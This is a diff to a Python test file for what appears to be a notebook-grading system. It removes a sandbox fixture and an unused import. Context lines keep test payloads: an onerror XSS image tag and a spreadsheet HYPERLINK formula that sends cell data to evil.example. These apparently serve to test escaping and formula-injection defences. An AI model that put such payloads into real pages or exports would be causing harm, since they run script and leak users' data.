@@ -32,7 +32,7 @@ from grader.notebooks.batch import MAX_NOTEBOOK_BYTES, grade_notebook
 from grader.notebooks.generate import student_notebook, variable_name
 from grader.reports import exports
 from grader.reports.feedback import feedback_html
-from grader.sandbox import Limits, Sandbox
+from grader.sandbox import Sandbox
 from grader.store import submissions
 from grader.store.models import Submission, Token
 from grader.store.users import add_user, revoke
@@ -46,12 +46,6 @@ ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
 IMG = '<img src=x onerror="alert(2)">'
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 CORRECT_ITERATES = [4, 2, 1, 0.5, 0.25, 0.125]
-
-
-@pytest.fixture(scope="module")
-def sandbox() -> Iterator[Sandbox]:
-    with Sandbox(workers=1, limits=Limits(cpu_seconds=10, wall_seconds=20)) as box:
-        yield box
 
 
 @pytest.fixture
